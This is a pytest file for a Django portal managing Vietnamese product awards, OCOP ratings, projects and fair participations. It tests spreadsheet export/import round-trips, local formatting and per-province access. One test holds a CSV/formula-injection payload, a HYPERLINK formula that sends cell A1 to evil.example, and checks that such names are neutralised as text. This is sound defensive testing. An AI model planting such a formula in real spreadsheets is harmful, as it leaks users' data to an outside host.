"""Export → import gives "unchanged" on every row, for every kind: the export is the import's own layout (dates
dd/mm/yyyy, money 1.075.000.000, provinces before 2025 marked), so staff can download, edit and re-import."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from awards.models import Level
from awards.services import ocop_rating_record, recognition_record
from extension_projects import services as extension
from extension_projects.enums import FairLevel, ProjectStatus
from extension_projects.models import FairParticipation, Project
from portal.core.list_exports import csv_lines
from portal.core.spreadsheets import FORMULA_STARTS
from portal.imports.workbooks import export_workbook
from portal.models import ImportStatus
from products.models import Producer
from tests import factories
from tests.extension_projects.helpers import project

from .helpers import preview, sheet_rows, upload_bytes

pytestmark = pytest.mark.django_db


@pytest.fixture
def records(staff_user, product_a, product_b):
    factories.producer("Cơ sở Mật ong Trùng Khánh", "Cao Bằng", current=False)
    recognition_record(
        actor=staff_user,
        product=product_a,
        level=Level.objects.get(code="province"),
        year=2019,
        decision_number="1450/QĐ-UBND",
        decision_date=datetime.date(2019, 11, 5),
        note="Ghi nhận từ hồ sơ lưu trữ",
    )
    recognition_record(
        actor=staff_user, product=product_b, level=Level.objects.get(code="district"), year=2018, decision_number="9/QĐ"
    )
    ocop_rating_record(
        product=product_a,
        actor=staff_user,
        stars=3,
        score=Decimal("65.5"),
        part_a=Decimal("25"),
        part_b=Decimal("15.5"),
        part_c=Decimal("25"),
        decision_number="2105/QĐ-UBND",
        decision_date=datetime.date(2021, 12, 15),
    )
    supported = project(staff_user, funding={"local": 1_075_000_000}, activity_code="vocational-training")
    project(staff_user, code="KCĐP-2019-02", plan_year=2019, province=factories.province("Cao Bằng", current=False))
    Project.objects.filter(code="KCĐP-2019-02").update(status=ProjectStatus.SETTLED)
    fair = extension.fair_create(
        actor=staff_user,
        name="Hội chợ Công Thương vùng Đông Bắc",
        starts_on=datetime.date(2022, 10, 20),
        ends_on=datetime.date(2022, 10, 24),
        place="Cao Bằng",
        organiser="Sở Công Thương",
        level=FairLevel.REGIONAL,
        province=factories.province("Cao Bằng"),
    )
    extension.participation_record(
        fair=fair,
        producer=product_a.producer,
        actor=staff_user,
        products=[product_a],
        booths=2,
        support_amount=12_000_000,
        project=supported,
        sales=45_500_000,
    )
    extension.participation_record(fair=fair, producer=product_b.producer, actor=staff_user, booths=1)


@pytest.mark.parametrize(
    ("kind", "rows"),
    [
        ("producers", 3),
        ("products", 2),
        ("recognitions", 2),
        ("ocop_ratings", 1),
        ("projects", 2),
        ("participations", 2),
    ],
)
def test_export_then_import_is_unchanged(staff_user, records, kind, rows):
    data = export_workbook(kind, staff_user)
    assert len(sheet_rows(data)) == rows + 1

    batch = preview(staff_user, kind, upload_bytes(data, f"{kind}.xlsx"))

    assert batch.errors == []
    assert batch.status == ImportStatus.PREVIEWED
    assert batch.totals == {"new": 0, "updated": 0, "unchanged": rows, "refused": 0}


def test_the_export_reads_as_a_person_would_write_it(staff_user, records):
    producers = sheet_rows(export_workbook("producers", staff_user))
    assert "Cao Bằng (trước 01/07/2025)" in [r[producers[0].index("Tỉnh/thành phố")] for r in producers]
    projects = sheet_rows(export_workbook("projects", staff_user))
    row = dict(zip(projects[0], next(r for r in projects if r[0] == "KCĐP-2024-01"), strict=True))
    assert row["Kinh phí KCĐP (đồng)"] == "1.075.000.000"
    fairs = sheet_rows(export_workbook("participations", staff_user))
    row = next(dict(zip(fairs[0], r, strict=True)) for r in fairs[1:] if "HTX Tâm Hòa" in r)
    assert row["Từ ngày"] == "20/10/2022"
    assert row["Kinh phí hỗ trợ (đồng)"] == "12.000.000"


def test_the_export_holds_the_users_province_only(staff_user, other_staff_user, records, producer_other_province):
    names = [r[1] for r in sheet_rows(export_workbook("producers", other_staff_user))[1:]]
    assert names == ["HTX Tân Phát Lợi"]
    assert len(sheet_rows(export_workbook("producers", staff_user))) == 4
    assert Producer.objects.count() == 4
    assert FairParticipation.objects.count() == 2


EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Xem")'


@pytest.mark.parametrize("name", [EVIL, "+84 Chè", "-Mắm", "@Trà", "'=x đã có dấu nháy"])
def test_formula_like_names_round_trip_as_text(staff_user, product_a, name):
    """A product named like a formula is exported as text (an XLSX string cell; in CSV behind a ') and comes back
    unchanged through the import, from either file."""
    product_a.name = name
    product_a.save(update_fields=["name"])
    data = export_workbook("products", staff_user)
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row if c.value == name]
    assert [c.data_type for c in cells] == ["s"]
    batch = preview(staff_user, "products", upload_bytes(data, "products.xlsx"))
    assert batch.errors == []
    assert batch.totals == {"new": 0, "updated": 0, "unchanged": 1, "refused": 0}

    rows = sheet_rows(data)
    text = "".join(csv_lines(rows[0], rows[1:]))
    written = next(r for r in csv.reader(io.StringIO(text.lstrip("\ufeff"))) if name in "".join(r))
    assert not any(cell.startswith(FORMULA_STARTS) for cell in written)
    batch = preview(staff_user, "products", upload_bytes(text.encode("utf-8"), "products.csv"))
    assert batch.errors == []
    assert batch.totals == {"new": 0, "updated": 0, "unchanged": 1, "refused": 0}
